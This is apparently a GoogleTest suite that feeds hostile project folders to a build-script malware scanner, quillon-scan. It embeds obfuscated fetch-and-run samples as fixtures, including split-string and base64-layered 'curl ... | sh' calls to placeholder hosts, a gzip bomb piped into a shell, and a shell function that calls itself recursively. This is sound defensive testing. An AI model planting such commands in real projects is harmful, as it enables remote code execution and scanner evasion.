// Hostile project folders: each is scanned by quillon-scan, as a monitor would every cycle,
// under a wall-clock limit and an address-space limit. Every scan must end in time with the
// right verdict and without a crash.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <zlib.h>

#include <chrono>
#include <climits>
#include <functional>
#include <random>
#include <string>

#include "platform/Base64.h"
#include "support/Process.h"
#include "support/ProjectText.h"
#include "support/TempTree.h"

namespace quillon::hostile {
namespace {

using namespace std::chrono_literals;

constexpr std::size_t kAddressSpace = std::size_t{1} << 30;  // 1 GiB
constexpr auto kTimeLimit = 10s;
constexpr int kClean = 0;
constexpr int kThreat = 1;

int scan(const testing::TempTree& tree, const std::string& pipeline = "cycle") {
    const auto started = std::chrono::steady_clock::now();
    const auto result = testing::runLimited(
        {QUILLON_SCAN_EXE, "--pipeline", pipeline, "--format", "json", tree.root().string()},
        kTimeLimit, kAddressSpace);
    const double seconds =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    ::testing::Test::RecordProperty("seconds", std::to_string(seconds));
    EXPECT_NE(result.status, -1) << "killed, crashed or out of time after " << seconds << " s\n"
                                 << result.err.substr(0, 2000);
    return result.status;
}

std::string repeat(std::string_view unit, std::size_t times) {
    std::string out;
    out.reserve(unit.size() * times);
    for (std::size_t i = 0; i < times; ++i)
        out += unit;
    return out;
}

std::string projectWithScript(const std::string& script) {
    return "// !$*UTF8*$!\n{ isa = PBXShellScriptBuildPhase; shellScript = \"" + script + "\"; }\n";
}

const std::string kObfuscated =
    "exit 0; a='cu';b='rl';c=' -s';d=' ht';e='tps://x';f='.invalid';g='/p';h=' | sh';"
    "eval \\\"$a$b$c$d$e$f$g$h\\\"";

TEST(Hostile, SpecialFilesNamedLikeProjectFiles) {
    testing::TempTree tree;
    tree.mkdir("App.xcodeproj");
    ASSERT_EQ(::mkfifo(tree.path("App.xcodeproj/project.pbxproj").c_str(), 0600), 0);
    ASSERT_EQ(::mkfifo(tree.path("build.sh").c_str(), 0600), 0);
    tree.symlink("/dev/zero", "zero.pbxproj");
    tree.symlink("/dev/urandom", "random.sh");
    tree.symlink("/dev/stdin", "stdin.xcconfig");
    EXPECT_EQ(scan(tree), kClean);
}

TEST(Hostile, DirectorySymlinkLoops) {
    testing::TempTree tree;
    tree.write("a/b/run.sh", "echo hi");
    tree.symlink("..", "a/b/up");
    tree.symlink(tree.root().string(), "a/root");
    tree.symlink("loop2", "loop1");
    tree.symlink("loop1", "loop2");
    EXPECT_EQ(scan(tree), kClean);
}

TEST(Hostile, DeepTreeBeyondPathMaxHidesNothing) {
    testing::TempTree tree;
    const std::string path = tree.writeDeep("dd", 3000, "dropper.sh", "chmod +x /tmp/.helper\n");
    ASSERT_GT(path.size(), static_cast<std::size_t>(PATH_MAX));
    EXPECT_EQ(scan(tree), kThreat);
}

// Texts of 1-2 MB built to take a backtracking engine past linear time, one per pattern.
TEST(Hostile, TextsThatMakeBacktrackingQuadratic) {
    const struct {
        const char* name;
        std::string path;
        std::string content;
        int verdict;
    } cases[] = {
        {"printfWithoutClosingQuote", "run.sh", repeat("printf x 'QUJDQUJDQUJDQUJDQUJ ", 60000),
         kClean},
        {"manyPrintfOneLine", "run.sh", repeat("printf ", 200000) + "'", kClean},
        {"echoWithoutClosingQuote", "run.sh", repeat("echo 'QUJDQUJDQUJDQUJD ", 80000), kClean},
        {"runsOf39", "a.xcconfig", repeat(std::string(39, 'A') + "-", 40000), kClean},
        {"oneHugeRun", "a.xcconfig", std::string(2 << 20, 'A'), kClean},
        {"blocksNeverClosed", "App.xcodeproj/project.pbxproj", repeat("shellScript = \"x", 120000),
         kClean},
        {"manyTinyBlocks", "App.xcodeproj/project.pbxproj",
         repeat("shellScript=\"a='1'\";", 100000), kClean},
        {"assignmentsWithoutClosingQuote", "App.xcodeproj/project.pbxproj",
         projectWithScript(repeat("a='", 300000)), kClean},
        {"expansionsEverywhere", "App.xcodeproj/project.pbxproj",
         projectWithScript(repeat("$abcdef", 250000)), kClean},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        tree.write(c.path, c.content);
        EXPECT_EQ(scan(tree), c.verdict);
    }
}

TEST(Hostile, ReconstructionBlowUpAndHugeTables) {
    const struct {
        const char* name;
        std::string script;
        int verdict;
    } cases[] = {
        // Eight copies of its own token: 8^10 times the script without a bound.
        {"selfMultiplying",
         "a='$a$a$a$a$a$a$a$a';b='cu';c='rl';d='x';e='y';f='z';g='w';h='v';i='u';"
         "eval \\\"$b$c $a$d$e$f$g$h$i\\\"",
         kThreat},
        // A hundred thousand variables, each used once, hiding a curl.
        {"hundredThousandVariables",
         [] {
             std::string script = "exit 0;";
             for (int i = 0; i < 100000; ++i)
                 script.append("v").append(std::to_string(i)).append("='x';");
             script += "a='cu';b='rl';c='-s';d='x';e='y';f='z';g='w';h='v';eval \\\"";
             for (int i = 0; i < 100000; ++i)
                 script.append("$v").append(std::to_string(i));
             return script + " $a$b $c$d$e$f$g$h\\\"";
         }(),
         kThreat},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        tree.write("App.xcodeproj/project.pbxproj", projectWithScript(c.script));
        EXPECT_EQ(scan(tree, "xcodespy"), c.verdict);
    }
}

TEST(Hostile, BrokenEncodingsStillShowTheirScripts) {
    std::string utf16 = "\xFF\xFE";
    for (char c : std::string("#!/bin/sh\nchmod +x helper\n")) {
        utf16 += c;
        utf16 += '\0';
    }
    utf16 += "\x00\xD8";  // a lone surrogate
    const struct {
        const char* name;
        std::string content;
        int verdict;
    } cases[] = {
        {"invalidUtf8", "\xC3\x28\xFF chmod +x helper \xE2\x82", kThreat},
        {"utf16WithLoneSurrogate", utf16, kThreat},
        {"truncatedUtf16", std::string("\xFE\xFF\x00", 3), kClean},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        tree.write("build.sh", c.content);
        EXPECT_EQ(scan(tree), c.verdict);
    }
}

TEST(Hostile, BinaryProjectFile) {
    testing::TempTree tree;
    std::mt19937 random(99);
    std::string bytes(2 << 20, '\0');
    for (char& b : bytes)
        b = static_cast<char>(random());
    tree.write("App.xcodeproj/project.pbxproj", bytes);
    EXPECT_EQ(scan(tree), kClean);
}

TEST(Hostile, HundredThousandFilesInOneFolder) {
    testing::TempTree tree;
    tree.mkdir("many");
    const int dir = ::open(tree.path("many").c_str(), O_RDONLY | O_DIRECTORY);
    ASSERT_GE(dir, 0);
    for (int i = 0; i < 100000; ++i) {
        const int file =
            ::openat(dir, std::string("f").append(std::to_string(i)).append(".sh").c_str(),
                     O_WRONLY | O_CREAT, 0644);
        ASSERT_GE(file, 0);
        ::close(file);
    }
    ::close(dir);
    EXPECT_EQ(scan(tree), kClean);
}

// Files far larger than memory, made sparse so that they take no disk: the scanner must judge
// what it can within a fixed window, say what it could not, and never run out of memory.
TEST(Hostile, SparseFilesLargerThanMemory) {
    constexpr std::size_t kThreeGiB = std::size_t{3} << 30;
    const struct {
        const char* name;
        const char* path;
        std::uint64_t size;
        std::string_view tail;
        int verdict;
    } cases[] = {
        {"eightGiBScriptWithChmodAtItsEnd", "build.sh", std::uint64_t{8} << 30, "chmod +x helper\n",
         kThreat},
        {"sixtyFourGiBProjectFile", "App.xcodeproj/project.pbxproj", std::uint64_t{64} << 30, "}\n",
         kClean},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        tree.write(c.path, "");
        const int fd = ::open(tree.path(c.path).c_str(), O_WRONLY);
        ASSERT_GE(fd, 0);
        ASSERT_EQ(::ftruncate(fd, static_cast<off_t>(c.size)), 0);
        ASSERT_EQ(
            ::pwrite(fd, c.tail.data(), c.tail.size(), static_cast<off_t>(c.size - c.tail.size())),
            static_cast<ssize_t>(c.tail.size()));
        ::close(fd);
        const auto result =
            testing::runLimited({QUILLON_SCAN_EXE, "--format", "json", tree.root().string()},
                                std::chrono::seconds(60), kThreeGiB);
        EXPECT_EQ(result.status, c.verdict) << result.err.substr(0, 2000);
        // What could not be read whole is said, never silently clean.
        EXPECT_NE(result.err.find(tree.path(c.path) + ": larger than"), std::string::npos)
            << result.err.substr(0, 2000);
    }
}

// Scripts built against the shell reader and evaluator: each must stay within the analysis's
// budgets, and a budget that runs out on obfuscation is itself a finding.
TEST(Hostile, ScriptsAgainstTheShellAnalysis) {
    constexpr int kEither = -2;
    const std::string stage = "echo \"$(curl -fsS https://cdn.example.invalid/a)\" | sh";
    const struct {
        const char* name;
        std::function<std::string()> script;
        int verdict;
    } cases[] = {
        {"commandSubstitutionsNested100000Deep",
         [] { return repeat("$(", 100000) + "echo" + repeat(")", 100000); }, kThreat},
        {"parenthesesNested200000Deep",
         [] { return repeat("(", 200000) + "true" + repeat(")", 200000); }, kEither},
        {"unterminatedHereDocumentsAndStrings",
         [] { return repeat("cat <<EOF$RANDOM\n", 20000) + repeat("\"'$'`${", 50000); }, kClean},
        {"gzipBombIntoAShell",
         [] {
             // 64 MiB of zeros: a kilobyte-sized stream that decompresses past every limit.
             std::string zeros(64u << 20, '\0');
             std::string packed(1u << 20, '\0');
             z_stream z{};
             deflateInit2(&z, 9, Z_DEFLATED, 31, 9, Z_DEFAULT_STRATEGY);
             z.next_in = reinterpret_cast<Bytef*>(zeros.data());
             z.avail_in = static_cast<uInt>(zeros.size());
             z.next_out = reinterpret_cast<Bytef*>(packed.data());
             z.avail_out = static_cast<uInt>(packed.size());
             deflate(&z, Z_FINISH);
             packed.resize(z.total_out);
             deflateEnd(&z);
             return "echo " + platform::encodeBase64(packed) + " | base64 -D | gunzip | sh";
         },
         kThreat},
        {"fortyBase64Layers",
         [&] {
             std::string script = stage;
             for (int i = 0; i < 40; ++i)
                 script = "echo " + platform::encodeBase64(script) + " | base64 -D | sh";
             return script;
         },
         kThreat},
        {"selfFeedingEval", [] { return std::string("a='eval \"$a\"'; eval \"$a\""); }, kThreat},
        {"recursiveFunctions", [] { return std::string("f(){ f; f; }; f"); }, kThreat},
        {"variableDoubledSixtyFourTimes",
         [] { return "a=xy" + repeat("; a=$a$a", 64) + "; echo $a"; }, kClean},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        testing::ProjectLayout layout;
        layout.phases.push_back({"Run Script", c.script()});
        tree.write("App.xcodeproj/project.pbxproj", testing::projectText(layout));
        const int status = scan(tree, "buildscripts");
        if (c.verdict == kEither) {
            EXPECT_TRUE(status == kClean || status == kThreat) << status;
        } else {
            EXPECT_EQ(status, c.verdict);
        }
    }
}

TEST(Hostile, ProjectFilesAgainstTheReader) {
    const struct {
        const char* name;
        std::function<std::string()> text;
        int verdict;
    } cases[] = {
        {"dictionariesNested200000Deep",
         [] { return repeat("{a=", 200000) + repeat("};", 200000); }, kClean},
        {"twoHundredThousandPhases",
         [] {
             testing::ProjectLayout layout;
             for (int i = 0; i < 200000; ++i)
                 layout.phases.push_back({"P", "echo hi"});
             return testing::projectText(layout);
         },
         kClean},
        {"settingsThatReferToEachOther",
         [] {
             testing::ProjectLayout layout;
             for (int i = 0; i < 2000; ++i) {
                 std::string value = "$(S";
                 value.append(std::to_string((i + 1) % 2000)).append(")$(S");
                 value.append(std::to_string((i + 7) % 2000)).append(")");
                 layout.settings.emplace_back(std::string("S").append(std::to_string(i)),
                                              std::move(value));
             }
             layout.phases.push_back({"Run Script", "echo \"$S0\""});
             return testing::projectText(layout);
         },
         kClean},
        {"truncatedInsideAScript",
         [] {
             testing::ProjectLayout layout;
             layout.phases.push_back({"Run Script", "echo 6563686f | xxd -p -r | sh"});
             const std::string text = testing::projectText(layout);
             return text.substr(0, text.find("| sh") + 4);
         },
         kThreat},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        testing::TempTree tree;
        tree.write("App.xcodeproj/project.pbxproj", c.text());
        EXPECT_EQ(scan(tree, "buildscripts"), c.verdict);
    }
}

}  // namespace
}  // namespace quillon::hostile
